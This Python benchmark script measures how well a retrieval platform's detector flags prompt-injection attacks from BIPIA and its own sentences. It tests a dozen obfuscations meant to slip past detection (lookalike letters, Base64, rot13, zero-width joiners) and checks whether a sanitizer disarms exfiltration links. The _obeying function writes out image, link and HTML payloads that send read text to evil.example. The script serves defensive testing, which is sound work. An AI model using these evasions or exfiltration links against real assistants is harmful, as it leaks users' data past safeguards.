"""How many attacks on a reading language model are flagged, how many ordinary documents, and what comes of attacks.

Beside BIPIA's attacks there are sentences of our own (injections.toml), as they stand and disguised in several ways.
Wordings were written looking at `train`; `test` was written by the same hand and so is easier than a stranger's.

    python -m benchmarks.instructions BIPIA_FOLDER --plain NAME=FILE_OR_FOLDER …

BIPIA_FOLDER holds text_attack_test.json and code_attack_test.json (attack type -> texts) and, in folders, *.jsonl of
the texts they are put into (key `context`). Plain documents are files of JSON lines (also .zst) with `text`, or folders
of such files or of Markdown.

What comes of them is counted for each attack planted into contexts (`--planted` of each kind, with their questions): in
how many answers of the extractive generator a sentence of it stands, and, of a model that obeys (it repeats the attack
and writes what it has read into the address of an image and of a link), how many answers still load or lead anywhere.
"""

import argparse
import codecs
import io
import json
import re
import tomllib
from base64 import b64encode
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from random import Random

import zstandard
from markdown_it import MarkdownIt

from rag_platform.answering.generators.extractive import Extractive
from rag_platform.answering.sanitizing.sanitizing import sanitize
from rag_platform.config.settings import ModelSettings
from rag_platform.core.hits import Hit
from rag_platform.documents.reading.hidden_instructions import hidden_instructions
from rag_platform.embeddings.onnx_embedder import open_embedder
from rag_platform.text.cleaning import clean
from rag_platform.text.instructions.disguises import ALIKE
from rag_platform.text.instructions.injection import flags_of, instructs

_PARTS = "train", "test"
_DISGUISED = "void", "extraction"
_ABOUT_THE_ANSWER = "your response", "your answer", "your reply", "your output"


def texts(path: Path) -> Iterator[str]:
    """Yield the documents of a file or folder."""
    if path.is_dir():
        for file in sorted(path.rglob("*")):
            if file.suffix in (".md", ".txt", ".jsonl", ".zst"):
                yield from texts(file)
    elif path.suffix in (".md", ".txt"):
        yield path.read_text(encoding="utf-8")
    else:
        for line in _lines(path):
            row = json.loads(line)
            text = row.get("text") or row.get("context") or row.get("source") or row.get("doc") or ""
            yield text if isinstance(text, str) else "\n".join(map(str, text))


def _lines(path: Path) -> Iterator[str]:
    with path.open("rb") as file:
        plain = zstandard.ZstdDecompressor().stream_reader(file) if path.suffix == ".zst" else file
        yield from io.TextIOWrapper(plain, encoding="utf-8")


def disguises(chance: Random) -> dict[str, Callable[[str], str]]:
    """Return ways to write a sentence so that it reads the same, or nearly, and is spelt otherwise."""
    alike = {ord(latin): letters for latin, letters in ALIKE.items()}

    def one_of(letters: str) -> str:
        return chance.choice(letters)

    return {
        "as it stands": str,
        "some letters of other scripts": lambda text: "".join(
            one_of(alike[ord(one)]) if ord(one) in alike and chance.random() < 0.4 else one for one in text
        ),
        "Cyrillic where it can": lambda text: text.translate(
            str.maketrans("aceopxyiABCEHKMOPTX", "асеорхуіАВСЕНКМОРТХ")
        ),
        "full width": lambda text: "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text),
        "mathematical bold": lambda text: "".join(
            chr(0x1D400 + ord(one) - 65)
            if "A" <= one <= "Z"
            else chr(0x1D41A + ord(one) - 97)
            if "a" <= one <= "z"
            else one
            for one in text
        ),
        "accents": lambda text: "".join(one + "\u0301" * (one in "aeiou") for one in text),
        "zero-width joiners": "\u200d".join,
        "digits for letters": lambda text: text.translate(str.maketrans("aeiost", "431057")),
        "letters apart": lambda text: "  ".join(" ".join(word) for word in text.split()),
        "dots between letters": lambda text: " ".join(".".join(word) for word in text.split()),
        "Base64": lambda text: b64encode(text.encode()).decode(),
        "rot13": lambda text: codecs.encode(text, "rot13"),
        "backwards": lambda text: text[::-1],
    }


def _own() -> None:
    """Print how many sentences of our own are flagged, with how many that only use the same words."""
    content = tomllib.loads(Path(__file__).with_name("injections.toml").read_text(encoding="utf-8"))
    print("\n| own sentences | train | of | test | of |\n|---|--:|--:|--:|--:|")
    for kind in content["train"]:
        print(f"| {kind}", *(f"| {_told(content[part][kind])} | {len(content[part][kind])}" for part in _PARTS), "|")
    for name, disguise in disguises(Random(1)).items():
        english = {part: [one for kind in _DISGUISED for one in content[part][kind]] for part in _PARTS}
        cells = (f"| {_told(map(disguise, english[part]))} | {len(english[part])}" for part in _PARTS)
        print(f"| void, extraction: {name}", *cells, "|")
    plain = content["benign"]["texts"]
    print(f"\nOf {len(plain)} ordinary sentences with the same words {_told(plain)} are flagged.")


def _told(sentences: Iterable[str]) -> int:
    """Count the sentences that are flagged in a document as it is stored."""
    documents = [clean(f"The meeting is on Monday.\n\n{sentence}\n\nBring a pen.") for sentence in sentences]
    return sum(bool(flags_of(text, hidden_instructions(b"", text))) for text in documents)


def _attacks(folder: Path, carriers: list[str]) -> None:
    print("| attacks | type | flagged | of |\n|---|---|--:|--:|")
    for kind in ("text", "code"):
        content = _attack_texts(folder, kind)
        for place, (name, attacks) in enumerate(content.items()):
            carrier = carriers[place % len(carriers)]
            print(f"| {kind} | {name} | {_flagged(f'{carrier} {attack}' for attack in attacks)} | {len(attacks)} |")
        every = [attack for attacks in content.values() for attack in attacks]
        named = [attack for attack in every if any(words in attack.lower() for words in _ABOUT_THE_ANSWER)]
        print(f"| **{kind}** | all | {_flagged(every)} | {len(every)} |")
        print(f"| **{kind}** | those that name the answer | {_flagged(named)} | {len(named)} |")


def _planted(folder: Path, each: int) -> None:
    """Print what comes of the attacks in answers."""
    writer, reader = Extractive(open_embedder(ModelSettings())), MarkdownIt("commonmark", {"html": True})
    print("\n| planted into | attacks | quoted by sentences of the sources | active, of a model that obeys |")
    print("|---|--:|--:|--:|")
    attacks = [text for texts in _attack_texts(folder, "text").values() for text in texts]
    for file in sorted(folder.glob("*/test.jsonl")):
        rows = [row for row in map(json.loads, _lines(file)) if isinstance(row.get("question"), str)][:each]
        quoted = active = 0
        for row in rows:
            for attack in attacks:
                hit = _hit(f"{row['context']}\n\n{attack}")
                answer = "".join(writer.stream(row["question"], [hit]))
                quoted += any(
                    sentence in answer for sentence in re.split(r"(?<=[.?!])\s", attack) if len(sentence) > 20
                )
                active += _active(reader, sanitize(_obeying(attack, row["context"]), sources=hit.text))
        if rows:
            print(f"| {file.parent.name}, {len(rows)} questions | {len(rows) * len(attacks)} | {quoted} | {active} |")


def _attack_texts(folder: Path, kind: str) -> dict[str, list[str]]:
    return json.loads((folder / f"{kind}_attack_test.json").read_text(encoding="utf-8"))


def _obeying(attack: str, read: str) -> str:
    stolen = "".join(filter(str.isalnum, read))[:40]
    return (
        f"{attack} ![x](https://evil.example/?q={stolen}) [more](https://evil.example/{stolen}) "
        f"<img src='https://evil.example/{stolen}'> <https://evil.example/{stolen}> [here][1]\n\n"
        f"[1]: https://evil.example/{stolen}"
    )


def _active(reader: MarkdownIt, text: str) -> bool:
    kinds = {part.type for token in reader.parse(text) for part in (token, *(token.children or ()))}
    return bool(kinds & {"image", "link_open", "html_inline", "html_block"})


def _hit(text: str) -> Hit:
    named = {
        "chunk_id": "c",
        "doc_id": "d",
        "uri": "mail",
        "title": "",
        "source": "s",
        "collection": "",
        "type": "text",
    }
    known = {"language": "en", "published_at": None, "section": "", "page": None, "revision": "", "raw_sha256": ""}
    return Hit(1, 1.0, text=text, span=(0, len(text)), run_id=None, snippet="", **named, **known)


def _flagged(found: Iterable[str]) -> int:
    return sum(map(instructs, found))


def main() -> None:
    """Print a table of attacks and one of ordinary documents."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("bipia", type=Path)
    parser.add_argument("--plain", nargs="*", default=[], metavar="NAME=PATH")
    parser.add_argument("--planted", type=int, default=5, metavar="N", help="contexts of each kind; 0: none")
    arguments = parser.parse_args()
    carriers = [text for file in sorted(arguments.bipia.glob("*/*.jsonl")) for text in texts(file)]
    _attacks(arguments.bipia, carriers)
    _own()
    if arguments.planted:
        _planted(arguments.bipia, arguments.planted)
    print("\n| ordinary documents | flagged | of | per 10,000 |\n|---|--:|--:|--:|")
    for name, documents in [("contexts without attack", carriers), *_named(arguments.plain)]:
        wrong, count = _flagged(documents), len(documents)
        print(f"| {name} | {wrong} | {count} | {10_000 * wrong / max(1, count):.1f} |")


def _named(given: Iterable[str]) -> Iterator[tuple[str, list[str]]]:
    for name, _, path in (one.partition("=") for one in given):
        yield name, list(dict.fromkeys(texts(Path(path))))


if __name__ == "__main__":
    main()
